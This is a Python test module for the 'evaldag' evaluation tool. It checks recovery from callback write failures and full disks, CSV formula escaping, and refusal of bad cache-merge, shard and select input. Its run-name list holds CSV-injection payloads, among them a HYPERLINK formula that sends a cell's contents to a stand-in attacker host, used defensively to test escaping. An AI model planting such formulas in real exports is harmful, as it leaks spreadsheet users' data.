"""Faults outside a TOFU run's cache: the Trainer callback's own files, CSV cells a spreadsheet
would run, and `cache merge` / `--shard` / `--select` input.

* callback: a real transformers Trainer (tests/tiny_trainer.py) in a subprocess whose callback
  cannot write its files: ``OUTPUT_DIR/evaldag`` made a file after attaching, and its folder and
  cache on a full disk (a tmpfs filled to the last byte when run as root, else every file made
  there failing with ENOSPC). Recovered: the script ends with exit 0 and every step trained;
  crashed: a traceback out of ``trainer.train()``.
* csv: run folders named ``=…``, ``+…``, ``-…``, ``@…``, tab- and CR-led; ``evaldag export --csv``
  and ``evaldag compare --out X.csv``. Recovered: the cell starts with ``'``; a live formula is
  counted as a wrong number (the harm is in the file, with exit 0).
* merge: a source's linked entry must be counted as skipped and named in a plain line (exit 1);
  silently left out with "0 skipped" is a wrong number. SRC = DEST through a link, ``--shard
  -1/2`` and ``--select`` with upper-case keywords: one line naming the real cause (``_refused``).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
TESTS = ROOT / "tests"
FIX = TESTS / "fixtures"
EVALDAG = str(Path(sys.executable).with_name("evaldag"))
NAMES = ['=HYPERLINK("https:evil.example?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"]
STEPS = 4

TRAIN = r'''
import errno, json, os, shutil, sys
from pathlib import Path
sys.path.insert(0, {tests!r})
from tiny_trainer import OPTIONS, make_trainer
from evaldag.engine.integrations import EvaldagCallback

mode, work = sys.argv[1], Path(sys.argv[2])
short = {{**OPTIONS, "metrics": ["forget_Q_A_Prob"], "retain_model": None}}
trainer = make_trainer(work / "out", steps={steps}, save_steps=2)
small = work / "small"
where = dict(output_dir=str(small), cache_dir=str(small / "cache")) if mode != "file" else dict(cache_dir=str(work / "cache"))
cb = EvaldagCallback.for_trainer(trainer, "tofu", on_save=True, select="min forget_Q_A_Prob", **where, **short)
if mode == "file":
    shutil.rmtree(work / "out" / "evaldag")
    (work / "out" / "evaldag").write_text("not a folder")
elif mode == "tmpfs":
    fd = os.open(small / "filler", os.O_WRONLY | os.O_CREAT, 0o600)
    for chunk in (65536, 4096, 1):
        try:
            while True:
                os.write(fd, b"\0" * chunk)
        except OSError:
            pass
    os.close(fd)
else:  # no tmpfs: every file made below the folder fails as a full disk does
    import builtins
    real_open, real_os_open = builtins.open, os.open
    def below(p):
        try:
            return Path(os.fspath(p)).resolve().is_relative_to(small.resolve())
        except TypeError:
            return False
    def full(p):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(p))
    def opener(p, mode="r", *a, **k):
        if below(p) and any(c in mode for c in "wax+"):
            full(p)
        return real_open(p, mode, *a, **k)
    def os_opener(p, flags, *a, **k):
        if below(p) and flags & (os.O_CREAT | os.O_WRONLY | os.O_RDWR):
            full(p)
        return real_os_open(p, flags, *a, **k)
    builtins.open, os.open = opener, os_opener
trainer.train()
print(json.dumps({{"steps": trainer.state.global_step}}))
'''


def _run(cmd: list[str], cwd: Path | None = None, timeout: float = 900) -> subprocess.CompletedProcess:
    env = {**os.environ, "OMP_NUM_THREADS": "1", "HF_HUB_OFFLINE": "1", "TOKENIZERS_PARALLELISM": "false"}
    try:
        done = subprocess.run(cmd, capture_output=True, cwd=cwd, env=env, timeout=timeout)
    except subprocess.TimeoutExpired as e:
        return subprocess.CompletedProcess(cmd, -999, "", f"timeout: {e}")
    # the bytes as written (a carriage return in a CSV cell stays one)
    return subprocess.CompletedProcess(cmd, done.returncode, done.stdout.decode("utf-8", "replace"),
                                       done.stderr.decode("utf-8", "replace"))


def _steps(proc: subprocess.CompletedProcess) -> tuple | None:
    try:
        return (json.loads(proc.stdout.strip().splitlines()[-1])["steps"],)
    except (IndexError, ValueError, KeyError):
        return None


def callback(c) -> None:
    script = TRAIN.format(tests=str(TESTS), steps=STEPS)
    d = c.trial_dir()
    proc = _run([sys.executable, "-c", script, "file", str(d)])
    c.classify("callback: OUTPUT_DIR/evaldag a file", proc, _steps(proc), (STEPS,))
    d = c.trial_dir()
    small = d / "small"
    small.mkdir()
    mounted = os.geteuid() == 0 and shutil.which("mount") is not None and subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(small)], capture_output=True).returncode == 0
    try:
        proc = _run([sys.executable, "-c", script, "tmpfs" if mounted else "patched", str(d)])
    finally:
        if mounted:
            subprocess.run(["umount", str(small)], capture_output=True)
    c.classify(f"callback: full disk ({'tmpfs' if mounted else 'patched ENOSPC'})", proc, _steps(proc), (STEPS,))


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_cells(c) -> None:
    d = c.trial_dir()
    one = _run([EVALDAG, "run", "toy", "--quiet", "--out", str(d / "one"), "--cache-dir", str(d / "cache")])
    if one.returncode != 0:
        raise SystemExit(f"toy run failed:\n{one.stderr}")
    for name in NAMES:
        shutil.copytree(d / "one", d / "sweep" / name)
    proc = _run([EVALDAG, "export", str(d / "sweep"), "--csv"])
    runs = {r["run"] for r in _csv_rows(proc.stdout)} if proc.returncode == 0 else set()
    for name in NAMES:
        got = ("'" + name) in runs
        c.classify("csv: export run name " + repr(name[:1]), proc, (got,), (True,))
    a, b = d / "a", d / "b"
    for folder, value in ((a, 0.5), (b, 0.25)):
        folder.mkdir()
        (folder / "=CMD_SUMMARY.json").write_text(json.dumps({"@SUM(A1)": value}))
        (folder / "run.json").write_text(json.dumps({"nodes": {}, "benchmarks": [], "provenance": {}}))
    proc = _run([EVALDAG, "compare", str(a), str(b), "--out", str(d / "d.csv")])
    rows = _csv_rows((d / "d.csv").read_bytes().decode()) if (d / "d.csv").is_file() else []
    c.classify("csv: compare benchmark/metric cells", proc, tuple((r["benchmark"], r["metric"]) for r in rows),
               (("'=CMD", "'@SUM(A1)"),))


def merge_shard_select(c) -> None:
    d = c.trial_dir()
    src = d / "src"
    _run([EVALDAG, "run", "toy", "--quiet", "--out", str(d / "o"), "--cache-dir", str(src)])
    entry = sorted(src.glob("objects/*/*.safetensors"))[0]
    entry.rename(d / "outside")
    entry.symlink_to(d / "outside")
    proc = _run([EVALDAG, "cache", "merge", str(src), "--cache-dir", str(d / "dest")])
    said = proc.returncode == 1 and f"skipped: {entry}: " in proc.stdout and "Warning" not in proc.stderr
    kind = "merge: a source's linked entry"
    if said or "Traceback" in proc.stderr:
        c.classify(kind, proc, None, None, "" if said else "traceback")
    else:  # left out without being counted: the merge's own count is wrong
        c.classify(kind, subprocess.CompletedProcess([], 0, "", proc.stderr), ("uncounted",), None,
                   f"exit {proc.returncode}: {proc.stdout.strip().splitlines()[0][-60:]!r}")
    (d / "link").symlink_to(src)
    proc = _run([EVALDAG, "cache", "merge", "link", "--cache-dir", "src"], cwd=d)
    c._refused("merge: SRC = DEST through a link", proc, d / "nothing", ["same folder"])
    base = [EVALDAG, "run", "tofu", "--model", str(FIX / "tiny-llama" / "target"), "--model",
            str(FIX / "tiny-llama" / "retain"), "--data", str(FIX / "tofu_tiny"), "--metrics", "forget_Q_A_Prob",
            "--out", str(d / "run"), "--cache-dir", str(d / "cache")]
    for kind, extra in (("--shard -1/2", ["--shard", "-1/2"]), ("--shard=-1/2", ["--shard=-1/2"])):
        c._refused(kind, _run([*base, *extra]), d / "run", ["shard index -1"])
    proc = _run([*base, "--select", "MAX forget_Q_A_Prob WHERE forget_Q_A_Porb >= 0"])
    c._refused("--select WHERE in capitals", proc, d / "run", ["'forget_Q_A_Porb'"])


def run(c) -> None:
    callback(c)
    csv_cells(c)
    merge_shard_select(c)
